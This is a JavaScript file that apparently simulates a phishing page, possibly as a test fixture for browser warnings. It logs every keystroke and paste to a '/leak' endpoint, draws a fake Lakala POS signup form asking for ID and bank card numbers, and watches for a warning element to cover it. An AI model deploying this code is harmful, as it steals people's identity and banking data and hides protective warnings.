// What every hostile page is about: a form, and a spy that sends home what it catches.
const leak = (what) => navigator.sendBeacon(`/leak?what=${encodeURIComponent(what)}&of=${encodeURIComponent(location.href)}`);
for (const type of ['keydown', 'beforeinput', 'input', 'paste', 'drop'])
  addEventListener(type, (event) => event.isTrusted && leak(`${type} ${event.key ?? event.data ?? ''}`), true);

const drawForm = () => {
  document.body.insertAdjacentHTML(
    'beforeend',
    `<main style="min-height:2000px;background:repeating-linear-gradient(#ffe,#cfc 40px)">
      <h1>拉卡拉POS机官网 办理中心</h1>
      <form action="/leak" target="sink"><label>身份证号 <input name="what" id="sfz" value="" autofocus></label>
      <label>银行卡号 <input name="yhk" id="yhk"></label><input type="file" id="photo"><button>提交</button></form>
      <iframe name="sink" hidden></iframe></main>`,
  );
};
if (document.currentScript.dataset.form !== 'later') addEventListener('DOMContentLoaded', drawForm);

const tag = 'pos-signup-guard';
const guard = () => [...document.getElementsByTagName(tag)][0];
/** Runs each time that the warning comes to the page. */
const whenWarned = (fight) => {
  let last;
  const look = () => {
    if (guard() && guard() !== last) {
      last = guard();
      fight(last);
    }
    setTimeout(look, 20);
  };
  look();
};
const once = (fight) => {
  let done = false;
  whenWarned((element) => {
    if (!done) setTimeout(fight, 300, element);
    done = true;
  });
};
const cover =
  'position:fixed;inset:0;width:100vw;height:100vh;max-width:none;max-height:none;margin:0;background:#0a0;color:#fff;border:0;font-size:60px';

Object.assign(globalThis, { once, cover });
